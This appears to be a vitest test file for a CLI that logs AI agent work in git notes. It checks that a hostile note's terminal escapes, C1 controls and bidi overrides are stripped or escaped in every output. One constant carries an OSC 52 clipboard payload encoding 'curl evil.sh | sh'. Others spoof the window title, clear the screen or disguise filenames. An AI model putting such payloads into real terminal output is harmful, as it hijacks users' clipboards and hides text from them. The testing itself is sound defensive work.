// A note written with plain `git notes` (as a remote would deliver it) carrying terminal escapes,
// C1 controls and bidi overrides in its intent, agent name, paths and commands: every read command
// prints it without one byte a terminal acts on, and --json gives back the exact strings.
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { cli, type TempRepo, tempRepo } from '../helpers/repo.js';

const OSC52 = '\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007'; // writes the clipboard
const TITLE = '\u001b]0;root@prod\u0007'; // sets the window title
const CLEAR = '\u001b[2J\u001b[H'; // clears the screen
const HIDE = '\u001b[8m'; // conceals what follows
const C1_CSI = '\u009b31m'; // 8-bit CSI
const RLO = '\u202e'; // right-to-left override
const RLI = '\u2066'; // isolate
const LRM = '\u200e';

const INTENT = `fix login${OSC52}${CLEAR}\u0007${RLO}gnp.exe${C1_CSI} done${TITLE}`;
const AGENT = `claude${HIDE}-code${RLI}x`;
const PATH = `src/pay${RLO}st.ts`;
const READ = `docs/${LRM}readme${TITLE}.md`;
const COMMAND = `npm test${CLEAR}\r${OSC52}`;

/** What no byte of human or JSON output may hold: C0 but tab/newline, DEL, C1, bidi controls and marks. */
const UNSAFE = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/u;

let repo: TempRepo;
let id = '';

beforeAll(async () => {
  repo = await tempRepo({ files: { 'src/pay.ts': 'export const pay = 1;\n' } });
  // A real sealed record gives the shape; the hostile copy is written by plain git, as a fetch would.
  await cli(repo, ['start', '--task', 'seed run']);
  repo.write('src/pay.ts', 'export const pay = 2;\n');
  await cli(repo, ['exec', '--', 'true']);
  await repo.commit('seed');
  expect((await cli(repo, ['finish'])).code).toBe(0);
  const seed = JSON.parse((await repo.git('notes', '--ref=agent-log', 'show', 'HEAD')).split('\n')[0]!);
  repo.write('src/pay.ts', 'export const pay = 3;\n');
  const commit = await repo.commit('hostile change');
  id = 'hostile0a1';
  const hostile = {
    ...seed,
    id,
    task: { ...seed.task, intent: INTENT },
    agent: { ...seed.agent, name: AGENT },
    boundary: { ...seed.boundary, deny: ['src/**'] }, // verify names the breaching path
    files: {
      read: [READ],
      changed: [{ ...seed.files.changed[0], path: PATH }],
    },
    commands: [{ ...seed.commands[0], command: COMMAND }],
    repo: { ...seed.repo, commits: [commit], end_commit: commit },
  };
  const file = join(repo.dir, '.git', 'hostile-note');
  writeFileSync(file, `${JSON.stringify(hostile)}\n`);
  await repo.git('notes', '--ref=agent-log', 'add', '-f', '-F', file, commit);
});

afterAll(() => repo?.cleanup());

const HUMAN: string[][] = [
  ['log'],
  ['log', '--format', '%short %agent %intent %files'],
  ['query', '--file', 'src/**'],
  ['show', 'hostile0a1'],
  ['show', 'hostile0a1', '--format', 'md'],
  ['show', 'hostile0a1', '--format', 'html'],
  ['pr', 'hostile0a1'],
  ['blame', 'src/pay.ts'],
  ['stats'],
  ['verify', 'hostile0a1'],
  ['rollback', 'hostile0a1'],
];

describe('human output of a hostile record', () => {
  test.each(HUMAN.map((a) => [a.join(' '), a] as const))(
    '%s: no control, C1 or bidi code point reaches the terminal',
    async (_name, args) => {
      const r = await cli(repo, args);
      expect([0, 1], r.stderr).toContain(r.code);
      expect(r.stdout).not.toMatch(UNSAFE);
      expect(r.stderr).not.toMatch(UNSAFE);
      // The record was read and printed, not skipped: its text is there around what was removed.
      if (!['stats', 'rollback hostile0a1'].includes(args.join(' ')))
        expect(r.stdout).toMatch(/fix login|pay/);
    },
  );

  test('log still shows the text around the removed escapes, the unsafe code points as U+FFFD', async () => {
    const r = await cli(repo, ['log']);
    const line = r.stdout.split('\n').find((l) => l.startsWith('hostile'))!;
    expect(line).toContain('fix login');
    expect(line).toContain('\ufffdgnp.exe'); // the override is visible, not obeyed
    expect(line).not.toContain('Y3VybCBldmlsLnNoIHwgc2g='); // an OSC payload is dropped whole
    expect(line).not.toContain('root@prod');
  });

  test('the HTML title holds no ESC, BEL or override', async () => {
    const r = await cli(repo, ['show', 'hostile0a1', '--format', 'html']);
    const title = /<title>([^<]*)<\/title>/.exec(r.stdout)![1]!;
    expect(title).toContain('fix login');
    expect(title).not.toMatch(UNSAFE);
  });

  test('an error message that echoes a hostile argument is shown, not obeyed', async () => {
    const r = await cli(repo, ['show', `nope${TITLE}${RLO}x`]);
    expect(r.code).toBe(1);
    expect(r.stderr.trim().split('\n')).toHaveLength(1);
    expect(r.stderr).not.toMatch(UNSAFE);
  });
});

const JSON_COMMANDS: string[][] = [
  ['log', '--json'],
  ['query', '--json', '--file', 'src/**'],
  ['show', 'hostile0a1', '--json'],
];

describe('--json output of a hostile record', () => {
  test.each(JSON_COMMANDS.map((a) => [a.join(' '), a] as const))(
    '%s: C1 and bidi as \\u escapes; parses back to the exact strings',
    async (_name, args) => {
      const r = await cli(repo, args);
      expect(r.code, r.stderr).toBe(0);
      expect(r.stdout).not.toMatch(UNSAFE);
      expect(r.stdout).toContain('\\u202e');
      expect(r.stdout).toContain('\\u009b');
      const parsed = JSON.parse(r.stdout) as unknown;
      const list = (Array.isArray(parsed) ? parsed : [parsed]) as {
        id: string;
        task: { intent: string };
        agent: { name: string };
        files: { read: string[]; changed: { path: string }[] };
        commands: { command: string }[];
      }[];
      const rec = list.find((x) => x.id === id)!;
      expect(rec.task.intent).toBe(INTENT);
      expect(rec.agent.name).toBe(AGENT);
      expect(rec.files.changed[0]!.path).toBe(PATH);
      expect(rec.files.read).toEqual([READ]);
      expect(rec.commands[0]!.command).toBe(COMMAND);
    },
  );
});
